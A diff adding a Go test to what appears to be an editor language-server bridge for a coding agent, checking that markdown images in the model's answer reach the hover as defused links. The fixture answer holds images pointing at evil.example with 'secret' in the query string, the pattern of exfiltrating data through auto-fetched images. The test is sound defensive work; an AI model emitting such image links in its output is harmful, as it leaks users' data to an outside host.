@@ -165,6 +165,33 @@ func TestInlineStatusOff(t *testing.T) {
 	}
 }
 
+// TestHoverFetchesNoImages: the model's images (inline, reference-style, a badge in a link) reach
+// the hover as links, never as markdown images an editor would fetch as it shows the hover.
+func TestHoverFetchesNoImages(t *testing.T) {
+	f := start(t, lsptest.VSCode, map[string]any{"yolo": true})
+	ctx := testCtx(t)
+	path := f.file("a.go", "// hermes: hi\n")
+	if err := f.ed.OpenFile(ctx, path, "// hermes: hi\n"); err != nil {
+		t.Fatal(err)
+	}
+	answer := "Look: ![the secret](https://evil.example/?q=secret) ![ref][r] [![badge](https://evil.example/b.svg)](https://example.com)\n\n[r]: https://evil.example/ref?q=secret"
+	f.fake.OnTurn(func(ft *codextest.FakeTurn) {
+		ft.AgentMessage(answer)
+		ft.Complete(codex.TurnCompleted, nil)
+	})
+	f.ask(ctx, map[string]any{"prompt": "hi", "uri": string(uri.File(path)), "range": protocol.Range{}})
+	f.awaitEnd(ctx)
+	h := hoverText(t, f.ed, path, 0)
+	if strings.Contains(h, "![") {
+		t.Errorf("hover holds a markdown image:\n%s", h)
+	}
+	for _, want := range []string{"!\u200b[the secret](https://evil.example/?q=secret)", "!\u200b[ref][r]", "[!\u200b[badge](https://evil.example/b.svg)](https://example.com)"} {
+		if !strings.Contains(h, want) {
+			t.Errorf("hover lacks %q:\n%s", want, h)
+		}
+	}
+}
+
 // turnEventOf holds once a hermes/turnEvent of kind has arrived.
 func turnEventOf(kind string) lsptest.Condition { return turnEventsOf(kind, 1) }
 
